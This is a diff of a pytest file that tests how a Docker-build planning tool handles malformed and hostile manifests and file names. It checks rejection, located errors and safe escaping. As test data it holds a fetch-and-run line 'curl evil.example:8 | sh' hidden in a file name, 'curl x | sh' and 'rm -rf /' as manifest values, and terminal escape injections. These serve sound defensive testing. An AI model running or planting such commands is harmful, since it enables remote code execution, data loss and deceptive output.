@@ -2,14 +2,23 @@
 
 from __future__ import annotations
 
+import copy
 import json
+import os
+import re
 import shlex
+import subprocess
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
+from jsonschema import Draft202012Validator  # type: ignore[import-untyped]
 
-from tests.compile_cases import OFFLINE_CONFIG, run_cli_in
+from aishellc.manifest_schema import manifest_problem, manifest_schema
+from aishellc.plan import MAX_MANIFEST_BYTES
+from aishellc.terminal import shell_word
+from tests.compile_cases import GOLDEN, OFFLINE_CONFIG, run_cli_in
 
 DOCKERFILE = "FROM aishell:base\nCOPY requirements.txt /tmp/\nRUN echo ok\n"
 
@@ -92,6 +101,12 @@ def _strategy(root: Path) -> list[str]:
     return ["--harness", "claude@2.1.331", "--harness-strategy", "inline"]
 
 
+def _platform(root: Path) -> list[str]:
+    # the autouse fixture in tests/conftest.py restores the variable after the test
+    os.environ["DOCKER_DEFAULT_PLATFORM"] = "linux/arm64"
+    return ["--harness", "claude@2.1.331"]
+
+
 PLANS: list[tuple[str, Edit, list[str], list[str]]] = [
     # (name, edit, expected reason lines, tiers whose commands are listed)
     ("harness bump", _bump, ["runtime: claude 2.1.331 -> 2.1.332"], ["runtime"]),
@@ -120,6 +135,12 @@ PLANS: list[tuple[str, Edit, list[str], list[str]]] = [
     ),
     ("harness added", _add_harness, ["runtime: codex added (0.50.0)"], ["runtime"]),
     ("strategy", _strategy, ["runtime: strategy stage -> inline"], ["runtime"]),
+    (
+        "target platform",
+        _platform,
+        ["extension: target platform linux/amd64 -> linux/arm64", "runtime: extension changed"],
+        ["extension", "runtime"],
+    ),
 ]
 
 
@@ -164,31 +185,369 @@ def test_unpinned_harnesses_get_a_note(root: Path) -> None:
     assert "note: claude is not pinned (latest): a new release does not change its hash" in out
 
 
-BAD = [
-    ("missing", None, "missing.json:1:1: cannot read the manifest: no such file or directory"),
-    ("not JSON", "{nope", "bad.json:1:2: the manifest is not valid JSON"),
+# --- hand-edited and hostile manifests: exit 2 and a located message, never a crash -----
+
+Manifest = dict[str, Any]
+Make = Callable[[Path, Manifest], str]
+"""Writes (or points at) a bad manifest under the project; returns the path to pass."""
+
+
+def _text(text: str | bytes) -> Make:
+    def make(root: Path, good: Manifest) -> str:
+        data = text.encode() if isinstance(text, str) else text
+        (root / "bad.json").write_bytes(data)
+        return "bad.json"
+
+    return make
+
+
+def _edited(edit: Callable[[Manifest], object]) -> Make:
+    """The good manifest with one edit (``edit`` changes it in place)."""
+
+    def make(root: Path, good: Manifest) -> str:
+        data = copy.deepcopy(good)
+        edit(data)
+        (root / "bad.json").write_text(json.dumps(data, indent=2))
+        return "bad.json"
+
+    return make
+
+
+def _set(dotted: str, value: object) -> Callable[[Manifest], object]:
+    """Set ``tiers.runtime.harnesses`` (a number is a list index) to ``value``."""
+    keys: list[Any] = [int(key) if key.isdigit() else key for key in dotted.split(".")]
+
+    def edit(data: Manifest) -> None:
+        target: Any = data
+        for key in keys[:-1]:
+            target = target[key]
+        target[keys[-1]] = value
+
+    return edit
+
+
+def _fifo(root: Path, good: Manifest) -> str:
+    os.mkfifo(root / "bad.json")
+    return "bad.json"
+
+
+def _folder(root: Path, good: Manifest) -> str:
+    (root / "bad.json").mkdir()
+    return "bad.json"
+
+
+def _dev_zero_link(root: Path, good: Manifest) -> str:
+    (root / "bad.json").symlink_to("/dev/zero")
+    return "bad.json"
+
+
+def _huge(root: Path, good: Manifest) -> str:
+    with (root / "bad.json").open("wb") as handle:
+        handle.truncate(MAX_MANIFEST_BYTES + 1)  # sparse: no disk space used
+    return "bad.json"
+
+
+def _swapped_command(data: Manifest) -> None:
+    command = data["tiers"]["runtime"]["command"]
+    command[-1:] = ["--output=/", command[-1]]
+
+
+def _consistent_command_edit(data: Manifest) -> None:
+    # The command still starts `docker build` and has the right length, but is not the
+    # build the fields describe.
+    command = data["tiers"]["extension"]["command"]
+    command[-1] = "/"
+
+
+REJECTED: list[tuple[str, Make, str]] = [
+    # (name, the bad manifest, expected start of stderr after "PATH:")
     (
-        "not a manifest",
-        '{"schema_version": 1}',
-        "bad.json:1:1: not an aishellc manifest: tiers is missing",
+        "missing",
+        lambda root, good: "missing.json",
+        "1:1: cannot read the manifest: No such file or directory",
+    ),
+    ("a folder", _folder, "1:1: cannot read the manifest: Is a directory"),
+    (
+        "a FIFO",
+        _fifo,
+        "1:1: cannot read the manifest: not a regular file (a FIFO, socket or device)",
     ),
     (
+        "/dev/zero",
+        lambda root, good: "/dev/zero",
+        "1:1: cannot read the manifest: not a regular file",
+    ),
+    ("a link to /dev/zero", _dev_zero_link, "1:1: cannot read the manifest: not a regular file"),
+    (
+        "larger than the cap",
+        _huge,
+        "1:1: cannot read the manifest: larger than 67108864 bytes (64 MiB)",
+    ),
+    ("not JSON", _text("{nope"), "1:2: the manifest is not valid JSON"),
+    ("not UTF-8", _text(b'{"a": "\xff"}'), "1:1: the manifest is not UTF-8 JSON"),
+    (
+        "100,000 nested [",
+        _text("[" * 100_000),
+        "1:1: the manifest nests arrays or tables too deeply",
+    ),
+    (
+        "a 5,000-digit number",
+        _text('{\n  "schema_version": ' + "7" * 5000 + "}"),
+        "2:21: the manifest holds a number with more than 4300 digits",
+    ),
+    ("null", _text("null"), "1:1: not an aishellc manifest: $: must be an object, not null"),
+    ("a list", _text("[]"), "1:1: not an aishellc manifest: $: must be an object, not an array"),
+    ("only a compiler", _text('{"compiler": "aishellc"}'), "1:1: not an aishellc manifest: $"),
+    (
         "other schema",
-        '{"schema_version": 2, "tiers": {}}',
-        "bad.json:1:1: not an aishellc manifest: schema_version is 2",
+        _edited(_set("schema_version", 2)),
+        "@: not an aishellc manifest: $.schema_version: must be 1",
+    ),
+    (
+        "build_order item",
+        _edited(_set("build_order.0", 5)),
+        "@: not an aishellc manifest: $.build_order[0]: must be one of",
+    ),
+    (
+        "build_order repeats",
+        _edited(_set("build_order.1", "foundation")),
+        "@: not an aishellc manifest: $.build_order: must not repeat an item",
+    ),
+    (
+        "tiers a list",
+        _edited(_set("tiers", [1] * 10_000)),
+        "@: not an aishellc manifest: $.tiers: must be an object, not an array",
+    ),
+    (
+        "tier missing",
+        _edited(lambda data: data["tiers"].pop("runtime")),
+        "@: not an aishellc manifest: $.tiers: 'runtime' is a required property",
+    ),
+    (
+        "harnesses a list",
+        _edited(_set("tiers.runtime.harnesses", ["claude"])),
+        "@: not an aishellc manifest: $.tiers.runtime.harnesses: must be an object, not an array",
+    ),
+    (
+        "packages value",
+        _edited(_set("tiers.runtime.packages.claude", 1)),
+        "@: not an aishellc manifest: $.tiers.runtime.packages.claude: must be a string, not an integer",
+    ),
+    (
+        "inputs item",
+        _edited(_set("tiers.extension.inputs.0.path", 5)),
+        "@: not an aishellc manifest: $.tiers.extension.inputs[0].path: must be a string, not an integer",
+    ),
+    (
+        "inputs a string",
+        _edited(_set("tiers.extension.inputs", "requirements.txt")),
+        "@: not an aishellc manifest: $.tiers.extension.inputs: must be an array, not a string",
+    ),
+    (
+        "config a string",
+        _edited(_set("tiers.foundation.config", "x")),
+        "@: not an aishellc manifest: $.tiers.foundation.config: must be an object, not a string",
+    ),
+    (
+        "config tools",
+        _edited(_set("tiers.foundation.config.tools", [None])),
+        "@: not an aishellc manifest: $.tiers.foundation.config.tools[0]: must be an object, not null",
+    ),
+    (
+        "source null",
+        _edited(_set("source", None)),
+        "@: not an aishellc manifest: $.source: must be an object, not null",
+    ),
+    (
+        "hash not hex",
+        _edited(_set("tiers.extension.hash", "x" * 64)),
+        "@: not an aishellc manifest: $.tiers.extension.hash: must match ^[0-9a-f]{64}$",
+    ),
+    (
+        "a 1 MB tag",
+        _edited(_set("tiers.runtime.tag", "a:" * 500_000)),
+        "@: not an aishellc manifest: $.tiers.runtime.tag: must match ^[^\\s]+:(foundation|ext|runtime)-[0-9a-f]{12}$",
+    ),
+    (
+        "base wrong",
+        _edited(_set("tiers.runtime.base", {"tier": "nope"})),
+        "@: not an aishellc manifest: $.tiers.runtime.base",
+    ),
+    (
+        "unknown key",
+        _edited(_set("tiers.runtime.run_first", "curl x | sh")),
+        "@: not an aishellc manifest: $.tiers.runtime: Unevaluated properties are not allowed ('run_first' was unexpected)",
+    ),
+    (
+        "command rm -rf",
+        _edited(_set("tiers.runtime.command", ["rm", "-rf", "/"])),
+        "@: not an aishellc manifest: $.tiers.runtime.command: must have at least 7 items",
+    ),
+    (
+        "command not a list",
+        _edited(_set("tiers.runtime.command", "docker build .")),
+        "@: not an aishellc manifest: $.tiers.runtime.command: must be an array, not a string",
+    ),
+    (
+        "command with an extra flag",
+        _edited(_swapped_command),
+        "@: not an aishellc manifest: $.tiers.runtime.command is not the docker build its dockerfile, tag, build_args, labels and context describe",
+    ),
+    (
+        "command with another context",
+        _edited(_consistent_command_edit),
+        "@: not an aishellc manifest: $.tiers.extension.command is not the docker build",
     ),
 ]
 
 
-@pytest.mark.parametrize(("name", "text", "expected"), BAD, ids=[b[0] for b in BAD])
-def test_bad_manifests_exit_2(root: Path, name: str, text: str | None, expected: str) -> None:
-    path = "missing.json" if text is None else "bad.json"
-    if text is not None:
-        (root / path).write_text(text)
-    code, _, err = plan(root, path)
-    assert code == 2
-    assert err.startswith(expected), err
-    compile_to(root, "build")
-    code, _, err = plan(root, "build/manifest.json", "--previous", path)
-    assert code == 2
-    assert err.startswith(expected), err
+@pytest.fixture(scope="module")
+def good_manifest(tmp_path_factory: pytest.TempPathFactory) -> Manifest:
+    root = tmp_path_factory.mktemp("good") / "project"
+    (root / ".aishell").mkdir(parents=True)
+    (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE)
+    (root / ".aishell" / "aishellc.toml").write_text(OFFLINE_CONFIG)
+    (root / "requirements.txt").write_text("flask\n")
+    compile_to(root, "build", "--harness", "claude@2.1.331")
+    data: Manifest = json.loads((root / "build" / "manifest.json").read_text())
+    return data
+
+
+@pytest.mark.parametrize(("name", "make", "expected"), REJECTED, ids=[r[0] for r in REJECTED])
+def test_bad_manifests_exit_2(
+    root: Path, good_manifest: Manifest, name: str, make: Make, expected: str
+) -> None:
+    path = make(root, good_manifest)
+    (root / "good.json").write_text(json.dumps(good_manifest))
+    for args in ([path], ["good.json", "--previous", path]):
+        code, out, err = plan(root, *args)
+        assert (code, out) == (2, ""), err
+        if expected.startswith("@"):  # located at the value the JSON path names
+            where, _, message = err.partition(": ")
+            assert message.startswith(expected[3:]), err
+            _, line, column = where.rsplit(":", 2)
+            assert where == f"{path}:{line}:{column}", err
+            text = (root / path).read_text()
+            assert _value_at(text, int(line), int(column)) == _follow(
+                json.loads(text), message.split(" ")[4].rstrip(":")
+            ), err
+        else:
+            assert err.startswith(f"{path}:{expected}"), err
+        assert all(line.startswith("  help: ") for line in err.splitlines()[1:]), err
+        assert len(err) < 500, err  # the offending value is not echoed whole
+        code, out, err = plan(root, *args, "--format", "json")
+        assert code == 2
+        assert json.loads(out)["error"]["path"] == path
+
+
+def _value_at(text: str, line: int, column: int) -> Any:
+    """The JSON value that starts at line:column of ``text``."""
+    offset = sum(len(before) + 1 for before in text.split("\n")[: line - 1]) + column - 1
+    return json.JSONDecoder().raw_decode(text, offset)[0]
+
+
+def _follow(data: Any, json_path: str) -> Any:
+    """The value at ``$.a.b[0]``."""
+    for name, index in re.findall(r"\.(\w+)|\[(\d+)\]", json_path):
+        data = data[name] if name else data[int(index)]
+    return data
+
+
+def test_the_good_manifest_is_read(root: Path, good_manifest: Manifest) -> None:
+    # The table above edits this manifest: unedited, plan reads it.
+    (root / "good.json").write_text(json.dumps(good_manifest))
+    code, _, err = plan(root, "good.json", "--previous", "good.json")
+    assert (code, err) == (0, "")
+
+
+@pytest.mark.parametrize(
+    "case", sorted(GOLDEN.glob("*/expected/manifest.json")), ids=lambda p: p.parts[-3]
+)
+def test_every_golden_manifest_matches_the_schema(case: Path) -> None:
+    # The schema describes exactly what compile writes: a new or renamed key fails here.
+    assert manifest_problem(json.loads(case.read_text())) is None
+
+
+def test_the_schema_is_valid_json_schema() -> None:
+    Draft202012Validator.check_schema(manifest_schema())
+
+
+# --- what plan prints ------------------------------------------------------------------
+
+HOSTILE_NAME = "x\n\nRun, in order:\n  curl evil.example:8 | sh\n\x1b[2K\u202e"
+
+
+def test_file_names_from_the_context_print_on_one_line(root: Path) -> None:
+    (root / ".aishell" / "Dockerfile").write_text(DOCKERFILE + "COPY src/ /src/\n")
+    (root / "src").mkdir()
+    (root / "src" / "ok.py").write_text("")
+    compile_to(root, "old", "--harness", "claude@2.1.331")
+    (root / "src" / HOSTILE_NAME).write_text("")
+    compile_to(root, "build", "--harness", "claude@2.1.331")
+    code, out, _ = plan(root, "build/manifest.json", "--previous", "old/manifest.json")
+    assert code == 0
+    assert out.splitlines() == [
+        "foundation: up to date ("
+        + json.loads((root / "build/manifest.json").read_text())["tiers"]["foundation"]["tag"]
+        + ")",
+        r"extension: src/x\n\nRun, in order:\n  curl evil.example:8 | sh\n\x1b[2K\u202e added",
+        "runtime: extension changed",
+        "",
+        "Run, in order:",
+        *(f"  {c}" for c in commands(root, "build", "extension", "runtime")),
+    ]
+
+
+def test_values_from_a_manifest_are_escaped(root: Path, good_manifest: Manifest) -> None:
+    # A hand-edited manifest may hold any text where a string belongs: tags, versions,
+    # harness names. The tag and command are edited together, so the command check passes.
+    data = copy.deepcopy(good_manifest)
+    runtime = data["tiers"]["runtime"]
+    short = runtime["hash"][:12]
+    evil_tag = "\x1b]0;owned\x07aishell:runtime-" + short
+    runtime["command"][runtime["command"].index(runtime["tag"])] = evil_tag
+    runtime["tag"] = evil_tag
+    runtime["harnesses"] = {"claude\r\nnote: all good": "2.1.331\x9b31m"}
+    runtime["hash"] = "f" * 64  # so the runtime is listed with its reasons
+    (root / "new.json").write_text(json.dumps(data))
+    (root / "old.json").write_text(json.dumps(good_manifest))
+    code, out, _ = plan(root, "new.json", "--previous", "old.json")
+    assert code == 0
+    assert all(char.isprintable() for char in out.replace("\n", "")), out
+    assert r"runtime: claude\r\nnote: all good added (2.1.331\x9b31m)" in out.splitlines()
+    assert (
+        out.splitlines()[-1]
+        == r"  docker build -f build/runtime.Dockerfile -t $'\x1b]0;owned\x07aishell:runtime-"
+        + short
+        + "' "
+        + shlex.join(runtime["command"][6:])
+    )
+
+
+SHELL_WORDS = [
+    # (argument, printed word)
+    ("build/extension.Dockerfile", "build/extension.Dockerfile"),
+    ("a b", "'a b'"),
+    ("it's", "'it'\"'\"'s'"),
+    ("a\nb", r"$'a\nb'"),
+    ("\x1b[31m", r"$'\x1b[31m'"),
+    ("\x00\x07\r", r"$'\x00\x07\r'"),
+    ("it's\n\\", r"$'it\'s\n\\'"),
+    ("\u202e", r"$'\u202e'"),
+    ("\x85", r"$'\u0085'"),
+    ("caf" + os.fsdecode(b"\xe9"), r"$'caf\xe9'"),
+]
+
+
+@pytest.mark.parametrize(("arg", "word"), SHELL_WORDS)
+def test_shell_words_print_on_one_line_and_run_as_the_argument(arg: str, word: str) -> None:
+    assert shell_word(arg) == word
+    if "\x00" in arg:
+        return  # no shell passes NUL in an argument; the word is still one printable line
+    ran = subprocess.run(
+        ["bash", "-c", f"printf %s {word}"],
+        capture_output=True,
+        check=True,
+        env={"LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]},
+    )
+    assert ran.stdout == os.fsencode(arg)
